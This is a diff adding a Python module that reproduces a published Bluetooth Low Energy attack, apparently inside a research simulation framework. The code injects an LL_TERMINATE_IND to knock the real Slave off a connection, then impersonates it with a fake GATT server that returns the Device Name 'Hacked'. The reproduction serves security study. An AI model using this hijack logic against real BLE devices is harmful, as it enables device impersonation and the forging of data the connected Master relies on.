@@ -1,0 +1,113 @@
+"""Scenario B: hijacking the Slave role (paper §VI-B, Fig. 6).
+
+A single injected ``LL_TERMINATE_IND`` is accepted by the Slave (which
+acknowledges and exits the connection) while the Master — which never sees
+the injected frame — keeps polling.  The attacker then answers those polls
+as a fake Slave, optionally backed by a GATT server so reads of the Device
+Name return "Hacked", as in the paper's demonstration.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Callable, Optional
+
+from repro.core.attacker import Attacker
+from repro.core.injection import InjectionReport
+from repro.core.roles import FakeSlave
+from repro.errors import AttackError
+from repro.host.gatt.server import GattServer
+from repro.host.l2cap import CID_ATT, l2cap_decode
+from repro.ll.pdu.control import TerminateInd
+
+
+@dataclass
+class ScenarioBResult:
+    """Outcome of the Slave hijack.
+
+    Attributes:
+        report: injection report for the LL_TERMINATE_IND.
+        fake_slave: the impersonation role (running when successful).
+    """
+
+    report: InjectionReport
+    fake_slave: Optional[FakeSlave] = None
+
+    @property
+    def success(self) -> bool:
+        """Whether the terminate was injected and impersonation started."""
+        return self.report.success and self.fake_slave is not None
+
+
+class SlaveHijackScenario:
+    """Terminates the real Slave and impersonates it.
+
+    Args:
+        attacker: a synchronised attacker.
+        gatt_server: the GATT profile the fake Slave serves; by default a
+            clone of nothing but a Device Name of "Hacked" should be built
+            by the caller (see :func:`hacked_gatt_server`).
+    """
+
+    def __init__(self, attacker: Attacker, gatt_server: Optional[GattServer] = None):
+        self.attacker = attacker
+        self.gatt_server = gatt_server
+        self.fake_slave: Optional[FakeSlave] = None
+
+    def run(self, on_done: Optional[Callable[[ScenarioBResult], None]] = None,
+            error_code: int = 0x13) -> None:
+        """Inject LL_TERMINATE_IND, then take over the Slave role."""
+        conn = self.attacker.connection
+        if conn is None:
+            raise AttackError("attacker is not synchronised")
+
+        def _injected(report: InjectionReport) -> None:
+            if not report.success:
+                if on_done is not None:
+                    on_done(ScenarioBResult(report=report))
+                return
+            fake = FakeSlave(
+                self.attacker.sim, self.attacker.radio, conn,
+                on_data=self._on_master_data,
+                name=f"{self.attacker.name}-fake-slave",
+            )
+            self.fake_slave = fake
+            if self.gatt_server is not None:
+                self.gatt_server.send = fake.queue_att
+            fake.start()
+            if on_done is not None:
+                on_done(ScenarioBResult(report=report, fake_slave=fake))
+
+        self.attacker.inject_control(TerminateInd(error_code=error_code),
+                                     on_done=_injected)
+
+    def _on_master_data(self, l2cap_frame: bytes) -> None:
+        """Serve the Master's ATT requests from the fake GATT profile."""
+        if self.gatt_server is None or self.fake_slave is None:
+            return
+        try:
+            cid, att = l2cap_decode(l2cap_frame)
+        except Exception:
+            return
+        if cid != CID_ATT:
+            return
+        response = self.gatt_server.handle_request(att)
+        if response is not None:
+            self.fake_slave.queue_att(response)
+
+
+def hacked_gatt_server(device_name: str = "Hacked") -> GattServer:
+    """A minimal GATT profile whose Device Name reads ``device_name``.
+
+    Reproduces the paper's demonstration: after the hijack, a Read Request
+    on the Device Name characteristic returns the forged value.
+    """
+    from repro.host.gatt.attributes import Characteristic, Service
+    from repro.host.gatt.uuids import UUID_DEVICE_NAME, UUID_GAP_SERVICE
+
+    server = GattServer()
+    gap = Service(UUID_GAP_SERVICE)
+    gap.add(Characteristic(UUID_DEVICE_NAME, value=device_name.encode(),
+                           read=True, write=True))
+    server.register(gap)
+    return server
